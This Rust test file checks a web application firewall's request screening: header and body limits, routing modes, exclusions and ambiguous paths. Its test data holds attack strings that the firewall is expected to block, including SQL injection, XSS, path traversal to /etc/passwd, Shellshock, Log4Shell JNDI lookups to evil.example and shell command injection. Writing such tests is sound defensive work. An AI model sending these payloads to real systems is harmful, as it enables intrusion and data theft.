//! Header-phase limits and detection, body plans and body inspection, modes and exclusions.

use super::*;

const POLICY: &str = r#"{
  "limits": {"max_url_bytes": 200, "max_headers": 12, "max_header_bytes": 300,
             "max_total_header_bytes": 1000, "methods": ["GET", "POST"],
             "content_types": ["application/json", "application/x-www-form-urlencoded", "text/plain"],
             "max_body_bytes": 1000, "inspect_body_bytes": 100,
             "json_max_depth": 3, "json_max_keys": 5},
  "routes": [
    {"match": {"path_prefix": "/posts"}, "exclusions": [{"location": "body:comment"}]},
    {"match": {"path_prefix": "/search"}, "exclusions": [{"rule": "sqli-001", "location": "query:q"}]},
    {"match": {"path_prefix": "/beta/"}, "mode": "detect"}
  ]
}"#;

impl Screener {
    /// As the filter calls it, with the body known from the headers.
    fn screen_headers_of(&self, headers: HeaderList) -> HeaderDecision {
        self.screen_headers(&headers, has_body(&headers))
    }
}

fn screener() -> Screener {
    Screener::from_json(POLICY.as_bytes()).unwrap()
}

fn request(method: &str, path: &str, extra: &[(&str, &str)]) -> HeaderList {
    let mut pairs = vec![
        (":method", method),
        (":path", path),
        (":authority", "api.test"),
    ];
    pairs.extend_from_slice(extra);
    HeaderList::from_pairs(&pairs)
}

fn refusal(d: &HeaderDecision) -> Option<&'static str> {
    match d {
        HeaderDecision::Refuse(r) => Some(r.rule_id()),
        HeaderDecision::Pass { .. } => None,
    }
}

fn body_refusal(d: &BodyDecision) -> Option<&'static str> {
    match d {
        BodyDecision::Refuse(r) => Some(r.rule_id()),
        BodyDecision::Pass { .. } => None,
    }
}

#[test]
fn clean_get_passes_without_body() {
    let d = screener().screen_headers_of(request("GET", "/items?page=2&sort=name", &[]));
    assert_eq!(
        d,
        HeaderDecision::Pass {
            findings: vec![],
            body: BodyPlan::None,
            route: None,
            mode: Mode::Block
        }
    );
}

#[test]
fn limits_at_the_headers() {
    let s = screener();
    let long = format!("/{}", "a".repeat(250));
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", &long, &[]))),
        Some("limit-url")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request("TRACE", "/", &[]))),
        Some("limit-method")
    );
    let big = "x".repeat(400);
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/", &[("x-big", &big)]))),
        Some("limit-header-size")
    );
    let many: Vec<(&str, &str)> = (0..12).map(|_| ("x-h", "1")).collect();
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/", &many))),
        Some("limit-header-count")
    );
    let medium = "y".repeat(250);
    let total: Vec<(&str, &str)> = (0..5).map(|_| ("x-m", medium.as_str())).collect();
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/", &total))),
        Some("limit-total-headers")
    );
    // 413 from Content-Length alone, before any body.
    assert_eq!(
        refusal(&s.screen_headers_of(request(
            "POST",
            "/",
            &[
                ("content-length", "5000"),
                ("content-type", "application/json")
            ]
        ))),
        Some("limit-body")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request(
            "POST",
            "/",
            &[
                ("content-length", "10"),
                ("content-type", "application/xml")
            ]
        ))),
        Some("limit-content-type")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request("POST", "/", &[("content-length", "10")]))),
        Some("limit-content-type"),
        "a body without a content type"
    );
    let d = s.screen_headers_of(request(
        "POST",
        "/",
        &[
            ("content-length", "10"),
            ("content-type", "Application/JSON; charset=utf-8"),
        ],
    ));
    assert!(
        matches!(
            d,
            HeaderDecision::Pass {
                body: BodyPlan::Inspect(BodyKind::Json),
                ..
            }
        ),
        "{d:?}"
    );
}

#[test]
fn findings_in_path_query_and_headers() {
    let s = screener();
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/files/..%2f..%2fetc/passwd", &[]))),
        Some("path-001")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/items?id=1%27%20or%201%3D1--", &[]))),
        Some("sqli-001")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request(
            "GET",
            "/",
            &[("user-agent", "() { :; }; /bin/bash -c id")]
        ))),
        Some("rce-001")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request(
            "GET",
            "/",
            &[("cookie", "a=1; b=%3Cscript%3Ealert(1)%3C/script%3E")]
        ))),
        Some("xss-001")
    );
    // Cookie names too; an ordinary session cookie passes.
    assert_eq!(
        refusal(&s.screen_headers_of(request(
            "GET",
            "/",
            &[("cookie", "%3Cscript%3Ealert(1)%3C/script%3E=1")]
        ))),
        Some("xss-001")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request(
            "GET",
            "/",
            &[("cookie", "session_id=abc123; theme=dark; flag")]
        ))),
        None
    );
    // Only the chosen headers are inspected.
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/", &[("x-note", "1' or '1'='1")]))),
        None
    );
}

/// `*` covers every header but pseudo-headers and credential headers; cookies stay covered,
/// and a credential header can still be listed by name.
#[test]
fn a_star_inspects_every_header_but_credentials() {
    let all = Screener::from_json(br#"{"detect": {"headers": ["*"]}}"#).unwrap();
    let attack = "1' or '1'='1";
    for header in ["x-note", "remote-ip", "X-Filename", "user-agent"] {
        assert_eq!(
            refusal(&all.screen_headers_of(request("GET", "/", &[(header, attack)]))),
            Some("sqli-001"),
            "{header}"
        );
    }
    assert_eq!(
        refusal(&all.screen_headers_of(request(
            "GET",
            "/",
            &[("cookie", "a=%3Cscript%3Ealert(1)%3C/script%3E")]
        ))),
        Some("xss-001")
    );
    for header in ["authorization", "x-api-key", "proxy-authorization"] {
        assert_eq!(
            refusal(&all.screen_headers_of(request("GET", "/", &[(header, attack)]))),
            None,
            "{header}"
        );
    }
    // The authority is Envoy's to validate; a pseudo-header is not inspected as a header.
    let pseudo =
        HeaderList::from_pairs(&[(":method", "GET"), (":path", "/"), (":authority", attack)]);
    assert_eq!(refusal(&all.screen_headers_of(pseudo)), None);
    let listed =
        Screener::from_json(br#"{"detect": {"headers": ["*", "Authorization"]}}"#).unwrap();
    let HeaderDecision::Refuse(Refusal::Finding(f)) =
        listed.screen_headers_of(request("GET", "/", &[("authorization", attack)]))
    else {
        panic!("a listed credential header is inspected")
    };
    assert_eq!(f.location, "header:authorization");
    assert_eq!(f.excerpt, None, "a credential is never logged");
}

#[test]
fn jndi_lookups_in_every_header() {
    let s = screener();
    for (name, value) in [
        ("x-api-version", "${jndi:ldap://evil.example/a}"),
        ("authorization", "Bearer ${${lower:j}ndi:rmi://x/y}"),
        ("test", "${${::-j}ndi:dns://x}"),
    ] {
        let d = s.screen_headers_of(request("GET", "/", &[(name, value)]));
        assert_eq!(refusal(&d), Some("jndi-001"), "{name}");
    }
    // Only JNDI: other categories stay with the listed headers.
    let d = s.screen_headers_of(request(
        "GET",
        "/",
        &[("x-note", "<script>alert(1)</script>")],
    ));
    assert_eq!(refusal(&d), None);
    // Not when the policy leaves the category out.
    let without = Screener::from_json(br#"{"detect": {"categories": ["sqli"]}}"#).unwrap();
    let d = without.screen_headers_of(request("GET", "/", &[("x-api", "${jndi:ldap://x/a}")]));
    assert_eq!(refusal(&d), None);
}

#[test]
fn the_finding_names_its_location() {
    let s = Screener::from_json(br#"{"mode": "detect"}"#).unwrap();
    let HeaderDecision::Pass { findings, .. } =
        s.screen_headers_of(request("GET", "/x?name=ok&q=%3Cscript%3E", &[]))
    else {
        panic!()
    };
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].location, "query:q");
    assert_eq!(findings[0].rule.category, crate::detect::Category::Xss);
}

#[test]
fn exclusions_and_detect_routes() {
    let s = screener();
    // The rule is excluded for q on /search, not for other parameters; the other SQL rules
    // still look at q.
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/search?q=1'+or+'1'='1", &[]))),
        Some("sqli-007")
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/search?x=1'+or+'1'='1", &[]))),
        Some("sqli-001")
    );
    // Detect mode: passes, with the finding to log.
    let d = s.screen_headers_of(request("GET", "/beta/x?q=<script>alert(1)</script>", &[]));
    let HeaderDecision::Pass { findings, mode, .. } = d else {
        panic!()
    };
    assert_eq!(mode, Mode::Detect);
    assert_eq!(findings[0].rule.id, "xss-001");
}

#[test]
fn bodies() {
    let s = screener();
    let json = |b: &str| s.screen_body(BodyKind::Json, b.as_bytes(), true, None, Mode::Block);
    assert_eq!(
        body_refusal(&json(r#"{"name": "ok", "tags": ["a", "b"]}"#)),
        None
    );
    assert_eq!(
        body_refusal(&json(r#"{"name": "x' OR 1=1 --"}"#)),
        Some("sqli-001")
    );
    assert_eq!(
        body_refusal(&json(r#"{"<script>alert(1)</script>": 1}"#)),
        Some("xss-001")
    );
    assert_eq!(
        body_refusal(&json(r#"{"a": {"b": {"c": {"d": 1}}}}"#)),
        Some("limit-json-depth")
    );
    assert_eq!(
        body_refusal(&json(r#"{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6}"#)),
        Some("limit-json-keys")
    );
    // Not JSON after all: inspected as text.
    assert_eq!(body_refusal(&json("not json; cat /tmp/x")), Some("rce-001"));

    let form =
        |b: &str, route| s.screen_body(BodyKind::Form, b.as_bytes(), true, route, Mode::Block);
    assert_eq!(body_refusal(&form("a=1&b=hello+world", None)), None);
    assert_eq!(
        body_refusal(&form("a=1&cmd=%3Bcat+%2Ftmp%2Fx", None)),
        Some("rce-001")
    );
    // The comment field is excluded on /posts (route 0), the title is not.
    let xss = "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assert_eq!(body_refusal(&form(xss, Some(0))), None);
    assert_eq!(
        body_refusal(&form(&xss.replace("comment", "title"), Some(0))),
        Some("xss-001")
    );

    let text = s.screen_body(
        BodyKind::Text,
        b"<svg onload=alert(1)>",
        true,
        None,
        Mode::Block,
    );
    assert!(body_refusal(&text).is_some_and(|id| id.starts_with("xss")));
}

#[test]
fn xml_bodies_by_value() {
    let s = screener();
    let xml = |b: &str| s.screen_body(BodyKind::Xml, b.as_bytes(), true, None, Mode::Block);
    assert_eq!(
        body_refusal(&xml(
            r#"<?xml version="1.0"?><order id="7"><item>2 x tea</item></order>"#
        )),
        None
    );
    assert_eq!(
        body_refusal(&xml(r#"<root><a probe="/etc/passwd"></a></root>"#)),
        Some("path-003")
    );
    assert_eq!(body_refusal(&xml("<q>x' or 1=1--</q>")), Some("sqli-001"));
    // Entities are decoded like in any other value.
    assert!(
        body_refusal(&xml(r#"<a p="&lt;script&gt;alert(1)&lt;/script&gt;"/>"#))
            .is_some_and(|id| id.starts_with("xss"))
    );
    // The test policy limits content types; the default accepts any.
    let xml_policy = Screener::from_json(br#"{}"#).unwrap();
    for t in [
        "application/xml",
        "text/xml; charset=utf-8",
        "application/soap+xml",
    ] {
        let d = xml_policy.screen_headers_of(request(
            "POST",
            "/",
            &[("content-length", "3"), ("content-type", t)],
        ));
        assert!(
            matches!(
                d,
                HeaderDecision::Pass {
                    body: BodyPlan::Inspect(BodyKind::Xml),
                    ..
                }
            ),
            "{t}: {d:?}"
        );
    }
}

#[test]
fn past_the_inspection_limit() {
    let s = screener();
    let long = "a".repeat(150);
    assert_eq!(
        body_refusal(&s.screen_body(BodyKind::Text, long.as_bytes(), false, None, Mode::Block)),
        Some("limit-inspection")
    );
    let pass = Screener::from_json(
        br#"{"limits": {"inspect_body_bytes": 10, "past_inspection": "pass"}}"#,
    )
    .unwrap();
    // The first 10 bytes are inspected; what follows passes uninspected.
    let d = pass.screen_body(
        BodyKind::Text,
        b"hello all; cat /tmp/x",
        false,
        None,
        Mode::Block,
    );
    assert_eq!(body_refusal(&d), None);
    let d = pass.screen_body(BodyKind::Text, b";cat /tmp/x", false, None, Mode::Block);
    assert_eq!(body_refusal(&d), Some("rce-001"));
}

#[test]
fn body_plans() {
    let s = screener();
    let plan = |extra: &[(&str, &str)]| match s.screen_headers_of(request("POST", "/", extra)) {
        HeaderDecision::Pass { body, .. } => body,
        other => panic!("{other:?}"),
    };
    assert_eq!(plan(&[]), BodyPlan::None);
    assert_eq!(plan(&[("content-length", "0")]), BodyPlan::None);
    assert_eq!(
        plan(&[
            ("transfer-encoding", "chunked"),
            ("content-type", "text/plain")
        ]),
        BodyPlan::Inspect(BodyKind::Text)
    );
    assert_eq!(
        plan(&[
            ("content-length", "3"),
            ("content-type", "application/x-www-form-urlencoded")
        ]),
        BodyPlan::Inspect(BodyKind::Form)
    );
    let no_body_rules = Screener::from_json(br#"{"detect": {"body": false}}"#).unwrap();
    let d = no_body_rules.screen_headers_of(request("POST", "/", &[("content-length", "3")]));
    assert!(matches!(
        d,
        HeaderDecision::Pass {
            body: BodyPlan::Count,
            ..
        }
    ));
}

#[test]
fn denials_never_echo_the_payload() {
    let s = screener();
    let HeaderDecision::Refuse(r) = s.screen_headers_of(request("GET", "/?q=%3Cscript%3E", &[]))
    else {
        panic!()
    };
    let rendered = r.denial().render(None);
    assert_eq!(rendered.status, 403);
    assert!(!rendered.body.contains("script"));
    assert_eq!(Refusal::Limit(Limit::Body).denial().status, 413);
}

/// At paranoia 2 a plain body is read value by value: level-2 rules flag some plain values.
#[test]
fn plain_bodies_at_level_2() {
    let strict = Screener::from_json(br#"{"detect": {"paranoia": 2}}"#).unwrap();
    for (kind, body, rule) in [
        (BodyKind::Form, "file=error.log", "path-006"),
        (BodyKind::Json, r#"{"cmd": "visudo"}"#, "rce-007"),
        (BodyKind::Text, "chef-shell", "rce-007"),
    ] {
        for s in [
            &strict,
            &Screener::from_json(br#"{"detect": {"paranoia": 2}}"#)
                .unwrap()
                .without_shortcuts(),
        ] {
            assert_eq!(
                body_refusal(&s.screen_body(kind, body.as_bytes(), true, None, Mode::Block)),
                Some(rule),
                "{body}"
            );
        }
        // Level 1: plain, passed whole.
        assert_eq!(
            screener().screen_body(kind, body.as_bytes(), true, None, Mode::Block),
            BodyDecision::Pass { findings: vec![] },
            "{body}"
        );
    }
}

/// Hex literals of dots and separators hold only plain bytes (`0x2e0x2e0x2f`): such a body is
/// not plain, and `path-008` finds them at level 1, with the shortcuts as without.
#[test]
fn hex_separators_make_a_body_not_plain() {
    for (kind, body) in [
        (BodyKind::Json, r#"{"file": "0x2e0x2e0x2fetc0x2fpasswd"}"#),
        (BodyKind::Form, "file=x+0X2F.0x2Eboot"),
        (BodyKind::Text, "0x5c0x2e0x2e"),
    ] {
        for s in [screener(), screener().without_shortcuts()] {
            assert_eq!(
                body_refusal(&s.screen_body(kind, body.as_bytes(), true, None, Mode::Block)),
                Some("path-008"),
                "{body}"
            );
        }
    }
}

fn screener_with_routing(routing: &str) -> Screener {
    let json = POLICY.replacen('{', &format!("{{\"routing\": {routing},"), 1);
    Screener::from_json(json.as_bytes()).unwrap()
}

/// `/beta/` only detects: a path that reads as another route to the upstream must not get
/// `/beta/`'s laxer mode.
#[test]
fn ambiguous_paths_are_refused_by_default() {
    let s = screener();
    let xss = "?q=<script>alert(1)</script>";
    for path in [
        "/beta/..;/items",
        "/beta/..%2fitems",
        "/beta/..%5Citems",
        "/beta/..\\items",
        "/BETA/x",
        "/Beta/x",
    ] {
        let d = s.screen_headers_of(request("GET", &format!("{path}{xss}"), &[]));
        assert_eq!(refusal(&d), Some("limit-ambiguous-path"), "{path}");
        let HeaderDecision::Refuse(r) = d else {
            panic!("{path}")
        };
        assert_eq!(
            (r.denial().status, r.denial().code),
            (400, "ambiguous_path")
        );
    }
    // One route under every reading: decided as before.
    let d = s.screen_headers_of(request("GET", &format!("/beta/X;v=1{xss}"), &[]));
    assert!(
        matches!(
            d,
            HeaderDecision::Pass {
                mode: Mode::Detect,
                ..
            }
        ),
        "{d:?}"
    );
    assert_eq!(
        refusal(&s.screen_headers_of(request("GET", "/Items;v=1", &[]))),
        None
    );
}

#[test]
fn strictest_applies_the_most_restrictive_route() {
    let s = screener_with_routing(r#"{"ambiguous_paths": "strictest"}"#);
    let xss = "?q=<script>alert(1)</script>";
    let d = s.screen_headers_of(request("GET", &format!("/BETA/x{xss}"), &[]));
    assert_eq!(refusal(&d), Some("xss-001"));
    // Blocked as `block` mode blocks it (the traversal rule sees `..;/`), not as ambiguous.
    let d = s.screen_headers_of(request("GET", &format!("/beta/..;/items{xss}"), &[]));
    assert!(
        refusal(&d).is_some_and(|id| id != "limit-ambiguous-path"),
        "{d:?}"
    );
    // `/posts` excludes `body:comment`; `/Posts/x` also reads as no route, with no exclusion.
    let d = s.screen_headers_of(request(
        "POST",
        "/Posts/x",
        &[
            ("content-type", "application/json"),
            ("content-length", "10"),
        ],
    ));
    let HeaderDecision::Pass { route, .. } = d else {
        panic!("{d:?}")
    };
    assert_eq!(route, None);
}

#[test]
fn case_insensitive_routes_match_case_variants() {
    let s = screener_with_routing(r#"{"case_insensitive": true}"#);
    let d = s.screen_headers_of(request("GET", "/BETA/x?q=<script>alert(1)</script>", &[]));
    assert!(
        matches!(
            d,
            HeaderDecision::Pass {
                mode: Mode::Detect,
                ..
            }
        ),
        "{d:?}"
    );
}

/// An exclusion by rule id ignores that rule only: the category's other rules still run at
/// that location (docs/screen.md, "Modes, routes, exclusions").
#[test]
fn an_excluded_rule_leaves_its_category_s_other_rules() {
    let s = Screener::from_json(
        br#"{"routes": [{"match": {"path_prefix": "/x"}, "exclusions": [
            {"rule": "sqli-001", "location": "query:q"},
            {"rule": "xss-001", "location": "query:q"},
            {"rule": "path-001", "location": "query:q"},
            {"rule": "rce-002", "location": "query:q"}]}]}"#,
    )
    .unwrap();
    let mut passed = Vec::new();
    for (value, excluded, category) in [
        (
            "1'+union+select+password+from+information_schema.tables--",
            "sqli-001",
            "sqli",
        ),
        ("<script>alert(1)</script>", "xss-001", "xss"),
        ("..%2f..%2f..%2fetc%2fpasswd", "path-001", "traversal"),
        ("$(sleep+5)%3bcat+x", "rce-002", "rce"),
    ] {
        // Elsewhere the excluded rule names the finding.
        let d = s.screen_headers_of(request("GET", &format!("/y?q={value}"), &[]));
        assert_eq!(refusal(&d), Some(excluded), "{value}");
        let d = s.screen_headers_of(request("GET", &format!("/x?q={value}"), &[]));
        match &d {
            HeaderDecision::Refuse(Refusal::Finding(f))
                if f.rule.category.as_str() == category
                    && f.rule.id != excluded
                    && f.location == "query:q" => {}
            _ => passed.push(format!("{value} with {excluded} excluded: {d:?}")),
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
}
